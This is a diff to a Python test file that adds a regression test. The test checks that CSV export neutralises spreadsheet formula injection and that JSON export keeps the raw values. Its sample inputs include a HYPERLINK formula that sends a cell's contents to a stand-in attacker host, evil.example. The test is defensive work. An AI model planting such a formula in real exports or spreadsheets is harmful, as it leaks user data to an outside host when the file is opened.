@@ -2,9 +2,12 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import os
 import signal
+import sqlite3
 import subprocess
 import sys
 from pathlib import Path
@@ -104,3 +107,30 @@ def test_run_stops_cleanly_on_sigterm(example_config: Path) -> None:
         assert "stopped" in service.stderr.read()
     finally:
         service.kill()
+
+
+# A spreadsheet runs each of these as a formula (tab and CR first, as some do after trimming); the last is plain data.
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+1", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "-3"]
+
+
+def test_csv_export_neutralises_formulas_and_json_keeps_them(
+    example_config: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    _cli(example_config, "import", "participants", str(ROOT / "examples" / "participants.csv"))
+    _cli(example_config, "import", "pairs", str(ROOT / "examples" / "pairs.csv"))
+    _cli(example_config, "--now", "2026-12-01T09:00", "run", "--once")
+    with sqlite3.connect(example_config.parent / "var" / "program.db") as db:
+        checkins = [row[0] for row in db.execute("SELECT id FROM checkins ORDER BY id LIMIT ?", [len(FORMULAS)])]
+        db.executemany(
+            "INSERT INTO answers (checkin_id, question, value, raw, recorded_at) VALUES (?, 'topics', ?, ?, ?)",
+            [(checkin, text, text, "2026-12-02T09:00:00Z") for checkin, text in zip(checkins, FORMULAS, strict=True)],
+        )
+    capsys.readouterr()
+
+    for what in ("checkins", "answers"):
+        assert _cli(example_config, "export", "--format", "csv", "--what", what) == 0
+        cells = [cell for row in csv.reader(io.StringIO(capsys.readouterr().out)) for cell in row]
+        assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+        assert all(f"'{value}" in cells for value in FORMULAS)  # a legitimate -3 too: the rule has no exceptions
+    assert _cli(example_config, "export", "--format", "json", "--what", "answers") == 0
+    assert sorted(row["value"] for row in json.loads(capsys.readouterr().out)) == sorted(FORMULAS)
